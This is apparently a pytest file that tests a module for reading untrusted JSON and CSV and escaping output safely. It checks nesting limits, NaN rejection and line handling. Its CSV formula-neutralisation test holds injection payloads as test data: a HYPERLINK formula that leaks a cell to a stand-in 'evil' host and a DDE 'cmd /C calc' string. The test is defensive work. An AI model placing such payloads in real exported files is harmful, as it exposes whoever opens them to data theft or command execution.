"""The one reader of untrusted text (`kgbench.untrusted`, issue 28 item 1): what it refuses,
what it keeps, and that no other module of ours calls `json.loads` on untrusted input."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest

from kgbench import untrusted
from kgbench.errors import UserError

REPO = Path(__file__).resolve().parents[1]

# The only modules of compiler/, harness/ and kgbench/ that may call json.loads / json.load,
# and why each is not reading untrusted input:
ALLOWED_JSON_LOADS = {
    # the reader itself
    "kgbench/untrusted.py": "the reader of untrusted text",
    # text produced in this very process, never read from a file or a socket
    "compiler/jsonschemas.py": "parses the JSON Schema LinkML's generator just serialised",
    "compiler/backends/scenario_rules.py": "parses the rules document the compiler just built",
    # a file of an installed, hash-checked wheel (pinned in requirements.lock)
    "compiler/biolink.py": "the prefix map shipped inside the pinned biolink-model wheel",
}


def _json_loads_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    lines = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr in ("loads", "load")
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "json"
        ):
            lines.append(node.lineno)
    return lines


def test_no_other_module_calls_json_loads_on_untrusted_input() -> None:
    found = {}
    for package in ("compiler", "harness", "kgbench"):
        for path in sorted((REPO / package).rglob("*.py")):
            rel = path.relative_to(REPO).as_posix()
            calls = _json_loads_calls(path)
            if calls and rel not in ALLOWED_JSON_LOADS:
                found[rel] = calls
    assert found == {}, (
        "read untrusted JSON through kgbench.untrusted (parse_json, load_json, iter_jsonl), "
        f"or add the module to ALLOWED_JSON_LOADS with the reason: {found}"
    )


def test_the_grep_sees_calls() -> None:
    """The walk finds what it looks for (a broken walk would find nothing anywhere)."""
    assert _json_loads_calls(REPO / "kgbench" / "untrusted.py")
    for rel in ALLOWED_JSON_LOADS:
        assert _json_loads_calls(REPO / rel), f"{rel} no longer calls json.loads: drop it"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('{"n": ' + "9" * 5000 + "}", "longer than"),
        ("[" * 100_000 + "]" * 100_000, "nested deeper"),
        ("[" * 65 + "]" * 65, "nested deeper than 64"),
        ('{"a": NaN}', "NaN is not a JSON number"),
        ('{"a": -Infinity}', "-Infinity is not a JSON number"),
        ('{"a": 1', "not valid JSON"),
        ("", "not valid JSON"),
    ],
)
def test_parse_json_refuses_with_one_parse_error(text: str, message: str) -> None:
    with pytest.raises(untrusted.ParseError, match=message):
        untrusted.parse_json(text)
    assert untrusted.parse_json_or_none(text) is None or "NaN" in text or "Inf" in text


def test_parse_json_keeps_what_is_json() -> None:
    assert untrusted.parse_json('{"a": [1, 2.5, "\\ud800", null]}') == {
        "a": [1, 2.5, "\ud800", None]
    }
    assert untrusted.parse_json("[" * 64 + "]" * 64) is not None
    assert untrusted.parse_json("[" * 200 + "]" * 200, max_depth=None) is not None
    value = untrusted.parse_json_or_none('{"a": NaN}')  # a model's answer: read as Python does
    assert value is not None and value["a"] != value["a"]


def test_the_bracket_count_shortcut_decides_as_the_depth_walk_does() -> None:
    """The depth walk is skipped only where the text cannot nest deeper than the limit:
    brackets inside strings over-count (the walk then runs and accepts), 65 real levels are
    still refused however they are spelt, and bytes are counted as text is."""
    shallow_but_bracketed = '{"a": "' + "[{" * 100 + '"}'
    assert untrusted.parse_json(shallow_but_bracketed) == {"a": "[{" * 100}
    mixed = '{"a":' * 33 + "[" * 32 + "]" * 32 + "}" * 33  # 65 levels, two kinds
    with pytest.raises(untrusted.ParseError, match="nested deeper than 64"):
        untrusted.parse_json(mixed)
    with pytest.raises(untrusted.ParseError, match="nested deeper than 64"):
        untrusted.parse_json(("[" * 65 + "]" * 65).encode())  # type: ignore[arg-type]
    assert untrusted.parse_json(("[" * 64 + "]" * 64).encode()) is not None  # type: ignore[arg-type]
    with pytest.raises(untrusted.ParseError, match="nested deeper than 2"):
        untrusted.parse_json("[[[]]]", max_depth=2)
    assert untrusted.parse_json("[[]]", max_depth=2) == [[]]


def test_lines_split_on_newline_only() -> None:
    text = 'a\u2028b\x85c\x0bd\x0ce\x1cf\r\n{"x": 1}\n'
    assert list(untrusted.lines(text)) == [
        (1, "a\u2028b\x85c\x0bd\x0ce\x1cf"),
        (2, '{"x": 1}'),
        (3, ""),
    ]
    assert len(text.splitlines()) > 2  # what str.splitlines would have made of it


def test_iter_jsonl_names_the_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "s.jsonl"
    path.write_text('{"a": "x\u2028y"}\n\n{"a": ' + "9" * 5000 + "}\n", encoding="utf-8")
    items = untrusted.iter_jsonl(path, "scenario")
    assert next(items) == (1, {"a": "x\u2028y"})
    with pytest.raises(UserError, match=rf"{path}, line 3: a number longer than"):
        next(items)
    path.write_bytes(b'{"a": 1}\n{"a": "\xef\xff"}\n')
    with pytest.raises(UserError, match=rf"{path}, line 2: not UTF-8"):
        list(untrusted.iter_jsonl(path))
    path.write_text("[1]\n")
    with pytest.raises(UserError, match="expected a scenario object"):
        list(untrusted.iter_jsonl(path, "scenario"))


@pytest.mark.parametrize("kind", ["missing", "dir", "fifo"])
def test_reading_what_is_not_a_file_is_one_message(tmp_path: Path, kind: str) -> None:
    import os

    path = tmp_path / "x"
    if kind == "dir":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    with pytest.raises(UserError, match=r"file not found|is a directory|not a regular file"):
        untrusted.read_text(path)


def test_csv_reader_has_no_field_limit_and_refuses_nul() -> None:
    big = "x" * 200_000
    rows = list(untrusted.csv_reader(f"a,b\n1,{big}\n", "t.csv"))
    assert rows == [["a", "b"], ["1", big]]
    with pytest.raises(UserError, match=r"t\.csv, line 2: a NUL character"):
        untrusted.csv_reader("a,b\n1,\x00\n", "t.csv")
    assert list(untrusted.csv_rows('a\n"multi\nline",b\nc\n', "t.csv")) == [
        (1, ["a"]),
        (2, ["multi\nline", "b"]),
        (4, ["c"]),
    ]


def test_for_terminal_escapes_control_characters_and_surrogates() -> None:
    text = "x\x1b[2J\x1b]0;pwned\x07 \u2028 \ud800 \x9b tab\tnewline\n"
    shown = untrusted.for_terminal(text)
    assert shown == "x\\x1b[2J\\x1b]0;pwned\\x07 \\u2028 \\ud800 \\x9b tab\tnewline\n"
    shown.encode("utf-8")  # printable anywhere


def test_for_prompt_escapes_only_lone_surrogates() -> None:
    assert untrusted.for_prompt("a\ud800b \u00e9 \u2028 \x1b") == "a\\ud800b \u00e9 \u2028 \x1b"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("-2+3", "'-2+3"),
        ("-2.5", "-2.5"),  # a number stays a number
        ("accept", "accept"),
        (None, ""),
    ],
)
def test_csv_cell_neutralises_formulas(cell, expected) -> None:
    assert untrusted.csv_cell(cell) == expected


def test_tsv_field_round_trips_through_the_csv_reader_kgx_uses() -> None:
    """KGX reads TSV with pandas' default quoting (QUOTE_MINIMAL, doublequote), which is the
    csv module's dialect with a tab delimiter: what tsv_field writes, that reads back."""
    import csv
    import io

    names = ['"Lisinopril', 'a "quoted" b', "tab\there", "line\nbreak", "plain", ""]
    text = "\t".join(untrusted.tsv_field(n) for n in names) + "\n"
    row = next(csv.reader(io.StringIO(text, newline=""), delimiter="\t"))
    assert row == names


def test_shown_quotes_a_value_on_one_line() -> None:
    assert untrusted.shown("2.0.1\n") == "'2.0.1\\n'"
    assert len(untrusted.shown("x" * 500)) <= 80


def test_finite() -> None:
    assert untrusted.finite(1) and untrusted.finite(0.5)
    for value in (float("nan"), float("inf"), -float("inf"), True, "1", None):
        assert not untrusted.finite(value)


def test_a_round_trip_of_what_kgbench_writes() -> None:
    from kgbench.io import record_line

    record = {"name": "Amlo\u2028dipine", "s": "\ud83d", "n": 10**20}
    line = record_line(record)
    assert untrusted.parse_json(line) == json.loads(line) == record
